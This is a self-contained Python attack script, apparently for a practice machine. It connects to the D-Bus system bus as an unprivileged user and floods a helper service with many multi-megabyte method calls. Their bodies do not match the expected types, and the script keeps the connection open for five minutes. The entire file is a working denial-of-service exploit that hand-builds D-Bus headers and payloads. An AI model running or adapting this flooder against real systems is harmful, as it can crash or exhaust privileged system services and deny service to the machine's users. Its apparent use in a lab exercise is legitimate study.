"""Runs in the practice machine, as an ordinary user: long messages of the wrong types for the helper. Standard library.

python3 flood.py COUNT MIB        then it stays on the bus until it is ended
"""

from __future__ import annotations

import os
import socket
import struct
import sys
import time

HELPER = (b"/org/raidwright/Helper1", b"org.raidwright.Helper1", b"ListBuilds", b"org.raidwright.Helper1")
BUS = (b"/org/freedesktop/DBus", b"org.freedesktop.DBus", b"Hello", b"org.freedesktop.DBus")


def padded(data: bytes) -> bytes:
    """Pad to a multiple of eight."""
    return data + b"\0" * (-len(data) % 8)


def head(serial: int, call: tuple[bytes, ...], body_bytes: int = 0, signature: bytes = b"") -> bytes:
    """Return a method call's header: path, interface, member, destination."""
    fields = b""
    for code, kind, value in zip((1, 2, 3, 6), (b"o", b"s", b"s", b"s"), call, strict=True):
        text = struct.pack("<I", len(value)) + value + b"\0"
        fields = padded(fields) + bytes((code, 1)) + kind + b"\0" + text
    if signature:
        fields = padded(fields) + b"\x08\x01g\0" + bytes((len(signature),)) + signature + b"\0"
    return padded(struct.pack("<BBBBIII", ord("l"), 1, 0, 1, body_bytes, serial, len(fields)) + fields)


def main() -> None:
    """Send them."""
    count, mib = map(int, sys.argv[1:])
    bus = socket.socket(socket.AF_UNIX)
    bus.connect("/run/dbus/system_bus_socket")
    bus.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    bus.recv(100)
    bus.sendall(b"BEGIN\r\n" + head(1, BUS))
    bus.recv(4096)
    arrays = mib * 2**20 // 4 - 2  # of ``aas``, each empty one of four bytes
    body = struct.pack("<I", arrays * 4) + bytes(arrays * 4)
    for serial in range(2, 2 + count):
        bus.sendall(head(serial, HELPER, len(body), b"aas") + body)
    print("sent", flush=True)
    time.sleep(300)


if __name__ == "__main__":
    main()
